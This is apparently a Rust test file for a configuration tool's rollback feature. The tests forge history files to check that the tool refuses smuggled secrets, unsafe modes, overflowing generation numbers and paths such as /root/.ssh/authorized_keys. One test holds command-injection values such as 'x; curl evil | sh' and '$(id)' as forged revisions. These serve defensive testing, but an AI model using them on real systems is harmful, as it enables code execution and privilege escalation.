//! What a host says of itself is data about that host alone: forged generations, ledgers and facts, through the program.

use super::history::Bench;

const HOST: &str = "backend1.example.org";
const TABLE: &str = "/etc/postfix/ldap/transport_maps.cf";
const TWO: [&str; 2] = [
    r#"message_size_limit: "1000""#,
    r#"message_size_limit: "2000""#,
];

/// Changes the text of a file of the host.
fn forge(bench: &Bench, path: &str, from: &str, to: &str) {
    let text = bench.read(path);
    assert!(text.contains(from), "{from}: {text}");
    std::fs::write(bench.inside(path), text.replacen(from, to, 1)).unwrap();
}

/// A manifest whose other host and whose defaults have secrets of their own.
fn bench() -> Bench {
    let bench = Bench::applied(&TWO);
    let text = Bench::manifest_text(TWO[1]);
    bench.manifest(&format!(
        "{text}  backend2.example.org:
    roles: [backend]
    ssh: {{become: {{method: sudo, password: {{env: HISTORY_BIND_PW}}}}}}
    files: {{/etc/postfix/own: {{content: \"{{{{ secret.own }}}}\\n\", secrets: {{own: {{env: HISTORY_BIND_PW}}}}}}}}
"
    ));
    bench
}

#[test]
fn a_generation_may_name_only_the_secrets_that_its_host_is_offered() {
    let bench = bench();
    for secret in [
        "hosts.backend2.example.org.ssh.become.password",
        "hosts.backend2.example.org.files./etc/postfix/own.own",
    ] {
        let before = bench.read("var/lib/murder/history/1.json");
        forge(
            &bench,
            "var/lib/murder/history/1.json",
            r#"{"secret":"ldap.bind_pw"}"#,
            &format!(r#"{{"secret":"{secret}"}}"#),
        );
        let text = bench.rollback(1, &["--to", "1"]);
        assert!(
            text.contains(&format!("`{secret}`, which the manifest")),
            "{secret}: {text}"
        );
        std::fs::write(bench.inside("var/lib/murder/history/1.json"), before).unwrap();
    }
    // One that the host is offered is no reason to refuse.
    bench.rollback(0, &["--to", "1"]);
}

#[test]
fn a_file_with_a_secret_keeps_its_mode_on_the_way_back() {
    for mode in ["0644", "0660", "0604"] {
        let bench = bench();
        let text = bench.read("var/lib/murder/history/1.json");
        assert!(text.contains(r#""mode":"0640""#), "{text}");
        std::fs::write(
            bench.inside("var/lib/murder/history/1.json"),
            text.replace(r#""mode":"0640""#, &format!(r#""mode":"{mode}""#)),
        )
        .unwrap();
        let text = bench.rollback(1, &["--to", "1"]);
        assert!(
            text.contains(&format!("has mode {mode}")) && text.contains(TABLE),
            "{text}"
        );
    }
}

#[test]
fn a_generation_that_no_murder_counts_is_refused_and_prunes_nothing() {
    for number in [
        "18446744073709551615",
        "9223372036854775807",
        "1000000000000",
    ] {
        let bench = Bench::applied(&TWO);
        forge(
            &bench,
            "var/lib/murder/ledger.json",
            "\"generation\": 2",
            &format!("\"generation\": {number}"),
        );
        bench.settings(r#"message_size_limit: "3000""#);
        let text = bench.expect(3, &["apply", ".", "--yes"]);
        assert!(text.contains(number), "{text}");
        assert!(bench.generation(1).exists() && bench.generation(2).exists());
    }
}

#[test]
fn a_revision_that_is_none_is_not_known() {
    for forged in [
        "x; curl evil | sh",
        "0123abc $(id)",
        "rollback to 1 (`id`)",
        "rollback to 1 (0123abc) (x",
        "--upload-pack=x",
        "\\u001b[31m0123abc",
    ] {
        let bench = Bench::applied(&TWO);
        forge(
            &bench,
            "var/lib/murder/history/1.json",
            r#""revision":"""#,
            &format!(r#""revision":"{forged}""#),
        );
        let text = bench.expect(0, &["history", HOST]);
        assert!(
            !text.contains(forged) && text.contains("no revision"),
            "{text}"
        );
        let text = bench.rollback(0, &["--to", "1"]);
        assert!(
            text.contains("its revision is not known") && !text.contains("checkout"),
            "{forged}: {text}"
        );
    }
    for (honest, said) in [
        ("0123abc", "git checkout 0123abc -- ."),
        (
            "0123abc-dirty",
            "git checkout 0123abc -- .` in the folder of the manifest, and then",
        ),
        ("rollback to 7 (0123abc)", "git checkout 0123abc -- ."),
    ] {
        let bench = Bench::applied(&TWO);
        forge(
            &bench,
            "var/lib/murder/history/1.json",
            r#""revision":"""#,
            &format!(r#""revision":"{honest}""#),
        );
        let text = bench.rollback(0, &["--to", "1"]);
        assert!(text.contains(said), "{honest}: {text}");
    }
}

#[test]
fn a_generation_under_the_name_of_another_is_refused() {
    let bench = Bench::applied(&TWO);
    let one = bench.generation(1);
    std::fs::copy(bench.generation(2), one).unwrap();
    let text = bench.rollback(1, &["--to", "1"]);
    assert!(text.contains("says that it is generation 2"), "{text}");
}

#[test]
fn a_generation_names_no_more_files_than_a_manifest_may() {
    let bench = bench();
    let kept = "var/lib/murder/history/1.json";
    let before = bench.read(kept);
    for place in ["/etc/sudoers.d/x", "/root/.ssh/authorized_keys", "/srv/x"] {
        // Wherever the generation names the table it now names another file.
        std::fs::write(bench.inside(kept), before.replace(TABLE, place)).unwrap();
        let text = bench.rollback(1, &["--to", "1"]);
        let refused = format!("`{place}` is outside of `/etc/postfix`");
        assert!(text.contains(&refused), "{place}: {text}");
        assert!(text.contains(&format!("--allow-path '{place}'")), "{text}");
        assert!(!bench.inside(place).exists(), "{place}");
    }
    // With the operator's word, and still not without the mode of a secret.
    let allowed = ["--to", "1", "--allow-path", "/srv/x"];
    let open = before
        .replace(TABLE, "/srv/x")
        .replace(r#""mode":"0640""#, r#""mode":"0644""#);
    std::fs::write(bench.inside(kept), open).unwrap();
    let text = bench.rollback(1, &allowed);
    assert!(text.contains("has mode 0644"), "{text}");
    std::fs::write(bench.inside(kept), before.replace(TABLE, "/srv/x")).unwrap();
    bench.rollback(0, &allowed);
    assert!(bench.inside("srv/x").exists());
}
